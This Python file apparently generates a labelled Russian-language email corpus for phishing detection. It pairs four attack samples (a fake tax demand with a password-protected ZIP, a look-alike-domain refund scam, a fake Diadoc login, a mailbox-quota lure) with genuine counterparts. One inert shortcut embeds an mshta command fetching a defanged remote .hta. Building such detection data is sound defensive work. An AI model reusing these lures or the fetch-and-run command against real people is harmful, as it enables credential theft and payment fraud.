# -*- coding: utf-8 -*-
"""Russian messages (attack 37-40, business 37-40)."""
import ids
import docs
import office
import mime
import company as C
import mailsys as X
from common import *
from reg import msg

OLGA = ('Ольга Смирнова', 'olga.smirnova@examplegroup.eu')
DMITRY = ('Дмитрий Кузнецов', 'dmitry.kuznetsov@examplegroup.eu')
ANNA = ('Анна Белова', 'a.belova@zootrade.ru')
ZT_FOOT = 'ООО «ЗооТрейд» · ИНН 5007312840 · КПП 500701001 · ОГРН 1155047009810 · 141800, Московская обл., г. Дмитров, ул. Промышленная, д. 14'


def sig_zt(who='anna'):
    if who == 'anna':
        return ('С уважением,\nАнна Белова\nМенеджер по закупкам\nООО «ЗооТрейд»\n141800, Московская обл., г. Дмитров, '
                'ул. Промышленная, д. 14\nТел.: +7 (495) 993-41-27, доб. 112\nwww.zootrade.ru')
    return ('С уважением,\nГлавный бухгалтер\nТатьяна Ермакова\nООО «ЗооТрейд»\nТел.: +7 (495) 993-41-27, доб. 105\nbuh@zootrade.ru')


# =====================================================================================
@msg('attack', '37-ru-fns-trebovanie-arhiv-parol.eml')
def a37(m):
    r = m.rng
    t = when(2026, 11, 18, 10, 11, 47, 'MSK')
    pw = '11802'
    lnk = (INERT_LNK % ('%SystemRoot%\\System32\\imageres.dll,-102',
                        'C:\\Windows\\System32\\mshta.exe hxxps://nalog-trebovanie[.]ru/t/11802.hta  (payload not included)')).encode()
    z = office.zip_encrypted([('Требование_№14-27-11802_от_18.11.2026.pdf.lnk', lnk, (2026, 11, 18, 9, 50, 2))], pw, r)
    m.meta['zip_passwords'] = [pw]
    text = ('Уважаемый налогоплательщик!\n\n'
            'ИФНС России № 23 по г. Москве в соответствии со статьей 88 Налогового кодекса Российской Федерации направляет '
            'ООО «Экзампл Груп Рус» (ИНН 7723419580) требование о представлении пояснений № 14-27/11802 от 18.11.2026 по '
            'налоговой декларации по НДС за 3 квартал 2026 года.\n\n'
            'Пояснения необходимо представить в течение пяти рабочих дней. Непредставление пояснений в установленный срок '
            'влечет ответственность по статье 129.1 НК РФ и может служить основанием для приостановления операций по счетам.\n\n'
            'Требование во вложении. Архив защищен паролем в целях сохранения налоговой тайны. Пароль: %s\n\n'
            'Главный государственный налоговый инспектор\nотдела камеральных проверок № 2\nЕрмолаева Н.В.\n'
            'Тел.: +7 (495) 400-27-14\n' % pw)
    m.root = Multi('mixed', [Leaf('text/plain', text, 'utf-8', 'base64'),
                             att(m, z, 'application/zip', 'Требование_14-27-11802.zip', 'php')], B.bnd_mailru(m))
    c = dict(frm=('ИФНС России № 23 по г. Москве', 'ifns23.trebovanie@mail.ru'), to=[DMITRY],
             subject='Требование о представлении пояснений № 14-27/11802 от 18.11.2026', date=t, hcs='utf-8', hmode='B')
    X.mailru(m, c)
    m.describe('Fake Federal Tax Service (ФНС) demand for explanations with a password-protected ZIP (password in the body) '
               'containing "Требование…pdf.lnk" (inert placeholder) – the classic loader lure against Russian accountants; '
               'sent from a mail.ru mailbox.',
               'ФНС sends requirements only through the EDO operator (ТКС), never from mail.ru; encrypted archive; .pdf.lnk; '
               'threat of account freeze. Genuine internal handling of a real requirement: business/39.',
               phones=['+7 (495) 400-27-14'])


# =====================================================================================
@msg('attack', '38-ru-zootrade-lookalike-vozvrat-pereplaty.eml')
def a38(m):
    r = m.rng
    t = when(2026, 11, 24, 12, 36, 5, 'MSK')
    bik, ks = '044525974', '30101810145250000974'
    rs = ids.ru_account(bik, '40702810X10000528834')
    m.meta['ru_accounts'] = [(bik, rs)]
    text = ('Добрый день, Дмитрий!\n\n'
            'По данным акта сверки на 31.10.2026 с нашей стороны образовалась переплата в размере 412 360,00 руб. (платежное '
            'поручение № 2217 от 28.10.2026 по счету № ЭГ-1187 было проведено банком дважды).\n\n'
            'Просим вернуть сумму переплаты на наш новый расчетный счет (старый счет в АО «Альфа-Банк» закрывается с 01.12):\n\n'
            'Получатель: ООО «ЗооТрейд», ИНН 5007312840, КПП 500701001\n'
            'Р/с %s\nБанк: АО «ТБанк»\nБИК %s\nК/с %s\n'
            'Назначение: Возврат ошибочно перечисленных денежных средств по п/п № 2217 от 28.10.2026, НДС не облагается\n\n'
            'Письмо за подписью генерального директора во вложении. Просим произвести возврат до конца недели и выслать '
            'платежку на этот адрес.\n\n' % (rs, bik, ks)) + sig_zt('buh').replace('buh@zootrade.ru', 'buh@zootrade-ru.ru')
    letter, _ = docs.build(m, [
        ('addr', ['Генеральному директору', 'ООО «Экзампл Груп Рус»', '115088, г. Москва, ул. Угрешская, д. 2, стр. 87'],
         [('Исх. №', '418/11'), ('Дата', '24.11.2026')]),
        ('sp', 14), ('h2', 'О возврате переплаты'), ('sp', 6),
        ('p', 'В связи с двойным списанием денежных средств по платежному поручению № 2217 от 28.10.2026 просим вернуть сумму '
              'переплаты в размере 412 360,00 (Четыреста двенадцать тысяч триста шестьдесят) рублей 00 копеек по следующим реквизитам:'),
        ('sp', 4), ('kv', [('Получатель', 'ООО «ЗооТрейд»'), ('ИНН/КПП', '5007312840 / 500701001'), ('Р/с', rs), ('Банк', 'АО «ТБанк»'),
                           ('БИК', bik), ('К/с', ks)]),
        ('sp', 16), ('p', 'Генеральный директор ____________ С.А. Гусев'), ('p', 'Главный бухгалтер ____________ Т.В. Ермакова'),
    ], 'Microsoft: Print To PDF', '', 'Письмо', 'user', t - TD(hours=1),
        header=docs.letterhead('ООО «ЗооТрейд»', ['Оптовая торговля кормами и товарами для животных'], (0.6, 0.3, 0.0)),
        footer=docs.footer_lines([ZT_FOOT]))
    m.root = Multi('mixed', [Leaf('text/plain', text, 'utf-8', 'base64'),
                             att(m, letter, 'application/pdf', 'Письмо_о_возврате_переплаты_418.pdf', 'php')], B.bnd_yandex(m))
    c = dict(frm=('Бухгалтерия ООО «ЗооТрейд»', 'buh@zootrade-ru.ru'), to=[DMITRY],
             subject='Возврат переплаты по п/п № 2217 от 28.10.2026', date=t, hcs='utf-8', hmode='B')
    X.yandex(m, c)
    m.describe('Overpayment-refund fraud from the look-alike domain zootrade-ru.ru, hosted on Yandex 360 like the real customer: '
               'claims a double payment of RUB 412,360 and asks for a refund to a "new" account at another bank.',
               'Domain differs from zootrade.ru; no such double payment in our ledger; new bank details in the same message; '
               'refund pressure; PDF by "Microsoft: Print To PDF". Genuine requisites notice: business/40.',
               phones=['+7 (495) 993-41-27'], other=[rs])


# =====================================================================================
@msg('attack', '39-ru-diadoc-fishing-dokument.eml')
def a39(m):
    r = m.rng
    t = when(2026, 12, 7, 9, 15, 33, 'MSK')
    url = 'https://diadoc-kontur.ru/auth/login?returnUrl=%%2Fdocuments%%2F%s' % mime.uuid4(r)
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>\n'
            '<body style="font-family:Arial,sans-serif;font-size:14px;color:#222">\n'
            '<div style="max-width:600px"><div style="padding:12px 0;font-size:20px;color:#1f87ef"><b>Контур.Диадок</b></div>\n'
            '<p>Здравствуйте!</p>\n<p>Вам поступил документ, требующий подписи:</p>\n'
            '<table cellpadding="6" style="font-size:14px;background:#f4f7fb"><tr><td>Отправитель</td><td><b>ООО «ЗооТрейд»</b></td></tr>'
            '<tr><td>Документ</td><td>Дополнительное соглашение № 3 к договору поставки ZT-2024/118</td></tr>'
            '<tr><td>Срок подписания</td><td>08.12.2026</td></tr></table>\n'
            '<p><a href="%s" style="display:inline-block;background:#1f87ef;color:#fff;padding:10px 22px;text-decoration:none">Перейти к документу</a></p>\n'
            '<p style="font-size:12px;color:#777">Если документ не будет подписан в срок, он будет автоматически отклонен.<br>'
            'Это письмо сформировано автоматически, не отвечайте на него.</p></div></body></html>\n' % url)
    m.root = B.alt(m, B.html_to_text(html).replace('Перейти к документу', 'Перейти к документу: ' + url), html, 'utf-8', 'quoted-printable',
                   bnd=B.bnd_php(m), ct_quote=False)
    c = dict(frm=('Контур.Диадок', 'noreply@diadoc-kontur.ru'), to=[OLGA], subject='Вам поступил документ на подпись от ООО «ЗооТрейд»',
             date=t, hcs='utf-8', hmode='B', msgid='<%s@dnepr-agro.ru>' % alnum(r, 32))
    X.exim_cpanel(m, c, 'vh214.hosting-msk.ru', '198.51.100.214', None, dkim_d='dnepr-agro.ru', z='MSK',
                  php={'user': 'dneprag', 'uid': 2214, 'envelope': 'dneprag@vh214.hosting-msk.ru',
                       'dir': '/home/dneprag/public_html/bitrix/tmp'},
                  order=['Date', 'To', 'From', 'Subject', 'Message-ID', ('X-Mailer', 'PHPMailer 6.5.0 (https://github.com/PHPMailer/PHPMailer)'),
                         'MV', 'MIMEONLY'], spf='none')
    m.describe('Fake Kontur.Diadoc notification ("document to sign from ZooTrade") linking to the look-alike login '
               'diadoc-kontur.ru; sent with PHPMailer from a hacked Bitrix site on shared hosting.',
               'Real notices come from diadoc.kontur.ru via Kontur\'s relay; envelope sender is a hosting account; PHPMailer; '
               'look-alike login domain; auto-reject threat. Genuine Diadoc notice: business/37.')


# =====================================================================================
@msg('attack', '40-ru-perepolnen-yashchik-koi8.eml')
def a40(m):
    r = m.rng
    t = when(2026, 12, 15, 6, 44, 19, 'MSK')
    url = 'https://examplegroup-mail-quota.web.app/?e=olga.smirnova@examplegroup.eu'
    text = ('Уважаемый пользователь olga.smirnova@examplegroup.eu!\n\n'
            'Ваш почтовый ящик заполнен на 98%% (4,91 ГБ из 5 ГБ). Входящие письма будут задерживаться и возвращаться '
            'отправителям.\n\n'
            'Для бесплатного увеличения квоты до 10 ГБ подтвердите учетную запись в течение 24 часов:\n%s\n\n'
            'После подтверждения все задержанные письма будут доставлены автоматически.\n\n'
            'С уважением,\nСлужба технической поддержки examplegroup.eu\n' % url)
    m.root = Leaf('text/plain', text, 'koi8-r', 'quoted-printable', ct_quote=False)
    c = dict(frm=('Администратор почты examplegroup.eu', 'support@stroykomplekt-nn.ru'), to=[OLGA],
             subject='Уведомление: почтовый ящик переполнен', date=t, date_z='MSK', hcs='koi8-r', hmode='B',
             msgid='<%s.%s@mail.stroykomplekt-nn.ru>' % (t.strftime('%Y%m%d%H%M%S'), hexs(r, 8)))
    X.direct_bot(m, c, 'mail.stroykomplekt-nn.ru', '192.0.2.171', rdns='mail.stroykomplekt-nn.ru', spf='pass',
                 dmarc=('none', None, None, 'stroykomplekt-nn.ru'),
                 order=['Date', 'From', 'To', 'Subject', 'Message-ID', ('X-Mailer', 'The Bat! (v10.4.3.2) Professional'), 'MV', 'MIMEONLY'],
                 tls='1.2b')
    m.describe('Mailbox-quota credential phishing in Russian (koi8-r, quoted-printable) from a compromised construction '
               'company\'s mail server; link to a Firebase-hosted fake webmail page with the victim\'s address.',
               'Display name claims the company\'s own mail admin but the address is a foreign domain; web.app hosting; '
               '24-hour threat; IT would never ask to "confirm the account" by link.')


# =====================================================================================
# BUSINESS
# =====================================================================================
@msg('business', '37-ru-diadoc-akt-sverki.eml')
def b37(m):
    r = m.rng
    t = when(2026, 10, 9, 14, 27, 51, 'MSK')
    box = hexs(r, 32)
    url = 'https://diadoc.kontur.ru/%s/Document/Show?letterId=%s&documentId=%s' % (box, mime.uuid4(r), mime.uuid4(r))
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>\n'
            '<body style="font-family:Arial,sans-serif;font-size:14px;color:#222">\n'
            '<div style="max-width:620px"><div style="padding:12px 0;font-size:20px;color:#1f87ef"><b>Контур.Диадок</b></div>\n'
            '<p>ООО «ЗооТрейд» отправил документ в ящик ООО «Экзампл Груп Рус»:</p>\n'
            '<p><b>Акт сверки взаимных расчетов за период 01.01.2026 – 30.09.2026</b><br>Требуется подпись получателя.</p>\n'
            '<p><a href="%s" style="color:#1f87ef">Открыть документ в Диадоке</a></p>\n'
            '<p style="font-size:12px;color:#777">Вы получили это письмо, потому что подписаны на уведомления о новых документах в '
            'Контур.Диадоке. Настроить уведомления: <a href="https://diadoc.kontur.ru/settings/notifications" style="color:#777">'
            'diadoc.kontur.ru/settings</a><br>АО «ПФ «СКБ Контур», 620144, г. Екатеринбург, ул. Народной Воли, 19а · 8 800 500-10-18</p>\n'
            '</div></body></html>\n' % url)
    m.root = B.alt(m, B.html_to_text(html).replace('Открыть документ в Диадоке', 'Открыть документ в Диадоке: ' + url), html,
                   'utf-8', 'base64', bnd=B.bnd_java(m), ct_quote=False)
    c = dict(frm=('Контур.Диадок', 'noreply@diadoc.kontur.ru'), to=[DMITRY],
             subject='Новый документ от ООО «ЗооТрейд»: Акт сверки за 01.01.2026 – 30.09.2026', date=t, hcs='utf-8', hmode='B',
             msgid='<%s@diadoc.kontur.ru>' % mime.uuid4(r))
    X.generic_relay(m, c, 'smtp-out2.kontur.ru', '198.51.100.46',
                    dkims=[('diadoc.kontur.ru', 'dkim', 'from:to:subject:date:message-id:content-type:mime-version')],
                    mail_from='bounce@diadoc.kontur.ru', dmarc_policy='reject', z='UTC')
    m.describe('Genuine Kontur.Diadoc notification: the customer ZooTrade sent a reconciliation statement into the company\'s '
               'EDI box; link to diadoc.kontur.ru.', 'Kontur\'s real domain and relay, DKIM/DMARC pass, expected quarterly '
               'reconciliation.', hardneg='39-ru-diadoc-fishing-dokument.eml', phones=['8 800 500-10-18'])


# =====================================================================================
@msg('business', '38-ru-zootrade-zakaz-xlsx.eml')
def b38(m):
    r = m.rng
    t = when(2026, 12, 2, 11, 4, 39, 'MSK')
    rows = [[('Артикул', 'b'), ('Наименование', 'b'), ('Кол-во, шт', 'b'), ('Цена, руб', 'b'), ('Сумма, руб', 'b')],
            ['EG-DD-1201', 'Сухой корм для собак, курица с рисом, 12 кг', 240, (4180.00, 'n'), (1003200.00, 'n')],
            ['EG-CD-0707', 'Сухой корм для кошек стерилизованных, 7 кг', 180, (3290.00, 'n'), (592200.00, 'n')],
            ['EG-CW-0855', 'Влажный корм для кошек, пауч 85 г (упак. 24 шт)', 600, (1010.00, 'n'), (606000.00, 'n')],
            [None, ('Итого', 'b'), None, None, (2201400.00, 'bn')]]
    x = office.xlsx([('Заказ 1187', rows, [14, 48, 12, 12, 14])], 'Белова Анна', 'Белова Анна', '2026-12-02T07:30:00Z',
                    '2026-12-02T07:58:15Z', (2026, 12, 2, 7, 58, 16))
    text = ('Ольга, добрый день!\n\nНаправляю заказ № 1187 от 02.12.2026 (спецификация во вложении). Отгрузка со склада в '
            'Подольске, желательно до 11.12 - перед Новым годом сети увеличивают заказы.\n\nПодтвердите, пожалуйста, наличие и '
            'дату отгрузки.\n\n') + sig_zt()
    m.root = Multi('mixed', [Leaf('text/plain', text, 'utf-8', 'base64'),
                             att(m, x, 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', 'Заказ_1187_от_02.12.2026.xlsx', 'php')],
                   B.bnd_yandex(m))
    c = dict(frm=ANNA, to=[OLGA], subject='Заказ № 1187 от 02.12.2026', date=t, hcs='utf-8', hmode='B')
    X.yandex(m, c)
    m.describe('Genuine customer order from ZooTrade (Yandex 360, DKIM zootrade.ru) with an XLSX specification.',
               'Real customer domain, usual products and quantities, no payment details.', phones=['+7 (495) 993-41-27'])


# =====================================================================================
@msg('business', '39-ru-vnutrennee-trebovanie-fns-edo.eml')
def b39(m):
    t = when(2026, 11, 19, 15, 2, 11, 'MSK')
    text = ('Ольга, привет!\n\n'
            'Через Контур.Экстерн пришло настоящее требование ИФНС № 23 о пояснениях по НДС за 3 квартал (по расхождениям с '
            'книгой покупок одного перевозчика). Квитанцию о приеме я уже отправил, ответить нужно до 26.11.\n\n'
            'Подготовь, пожалуйста, к понедельнику скан-копии договора с ООО «ТрансЛайн» и актов за июль-сентябрь - они в '
            'папке Договоры\\2026 у тебя в шкафу.\n\n'
            'И на всякий случай: вчера многим бухгалтериям пришли письма «от ФНС» с архивом и паролем (у нас тоже, с адреса на '
            'mail.ru). Налоговая такие требования по электронной почте не присылает - только через оператора ЭДО. Такие письма '
            'не открывай, пересылай на phishing@example.com.\n\n'
            'Спасибо!\nДмитрий\n\nДмитрий Кузнецов\nГлавный бухгалтер\nООО «Экзампл Груп Рус»\nТел.: +7 495 660-41-88')
    m.root = B.alt(m, text, B.outlook_html(text, 'ru', 'windows-1251'), 'windows-1251', 'quoted-printable', bnd=B.bnd_exchange(m))
    c = dict(frm=DMITRY, to=[OLGA], subject='Требование ИФНС по НДС за 3 кв. - нужны документы до понедельника', date=t,
             hcs='windows-1251', hmode='B')
    X.exchange_internal(m, c, client_ip='10.27.1.31', lang='ru-RU')
    m.describe('Genuine internal message (windows-1251) from the Russian chief accountant: a real tax requirement arrived through '
               'the EDO operator; asks for contract copies and warns about the fake "ФНС" e-mails.',
               'Internal route; no links or attachments; describes the official channel.', hardneg='37-ru-fns-trebovanie-arhiv-parol.eml',
               phones=['+7 495 660-41-88'])


# =====================================================================================
@msg('business', '40-ru-zootrade-smena-rekvizitov.eml')
def b40(m):
    r = m.rng
    t = when(2026, 12, 9, 10, 12, 2, 'MSK')
    bik_new, ks_new = '044525225', '30101810400000000225'
    rs_new = ids.ru_account(bik_new, '40702810X38000074412')
    m.meta['ru_accounts'] = [(bik_new, rs_new), (C.ZOOT_BIK, C.ZOOT_RS)]
    letter, _ = docs.build(m, [
        ('addr', ['ООО «Экзампл Груп Рус»', '115088, г. Москва, ул. Угрешская, д. 2, стр. 87'], [('Исх. №', '431/12'), ('Дата', '08.12.2026')]),
        ('sp', 14), ('h2', 'Уведомление об изменении банковских реквизитов'), ('sp', 6),
        ('p', 'Настоящим уведомляем, что с 01.01.2027 ООО «ЗооТрейд» переходит на обслуживание в ПАО Сбербанк. Просим внести '
              'изменения в договор поставки № ZT-2024/118 (раздел 12 «Реквизиты сторон»). Дополнительное соглашение № 3 '
              'направлено вам в Контур.Диадок.'), ('sp', 4),
        ('table', ['', 'до 31.12.2026', 'с 01.01.2027'], [['Банк', 'АО «Альфа-Банк»', 'ПАО Сбербанк'], ['Р/с', C.ZOOT_RS, rs_new],
                                                         ['БИК', C.ZOOT_BIK, bik_new], ['К/с', C.ZOOT_KS, ks_new]], [1, 2.5, 2.5]),
        ('sp', 8), ('p', 'Обращаем внимание: изменение касается только наших платежей вам; никаких возвратов или оплат на новый счет '
                         'мы не запрашиваем. При сомнениях свяжитесь с главным бухгалтером по известному вам телефону.'),
        ('sp', 16), ('p', 'Генеральный директор  С.А. Гусев'), ('p', 'Главный бухгалтер  Т.В. Ермакова'),
    ], '1С:Предприятие 8.3', '1С:Бухгалтерия предприятия', 'Уведомление о смене реквизитов', 'Ермакова Т.В.', t - TD(hours=20),
        header=docs.letterhead('ООО «ЗооТрейд»', ['Оптовая торговля кормами и товарами для животных'], (0.6, 0.3, 0.0)),
        footer=docs.footer_lines([ZT_FOOT]))
    text = ('Дмитрий, добрый день!\n\nНаправляем уведомление о смене наших банковских реквизитов с 01.01.2027 (подписанный скан во '
            'вложении, оригинал и доп. соглашение № 3 - в Диадоке). Для вашей стороны это важно только для идентификации наших '
            'платежей и обновления карточки контрагента; просьб об оплате или возврате с нашей стороны нет.\n\n') + sig_zt('buh')
    m.root = Multi('mixed', [Leaf('text/plain', text, 'utf-8', 'base64'),
                             att(m, letter, 'application/pdf', 'Уведомление_о_смене_реквизитов_431.pdf', 'php')], B.bnd_yandex(m))
    c = dict(frm=('Бухгалтерия ООО «ЗооТрейд»', 'buh@zootrade.ru'), to=[DMITRY], subject='Смена банковских реквизитов ООО «ЗооТрейд» с 01.01.2027',
             date=t, hcs='utf-8', hmode='B')
    X.yandex(m, c)
    m.describe('Genuine notice from the Russian customer that its own bank details change from 2027 (signed letter, '
               'supplementary agreement via Diadoc); explicitly no payment or refund requested.',
               'Real zootrade.ru on Yandex 360 with DKIM; change announced in advance through EDI as well; no money flow to the '
               'new account from our side.', hardneg='38-ru-zootrade-lookalike-vozvrat-pereplaty.eml',
               phones=['+7 (495) 993-41-27'], other=[rs_new, C.ZOOT_RS])
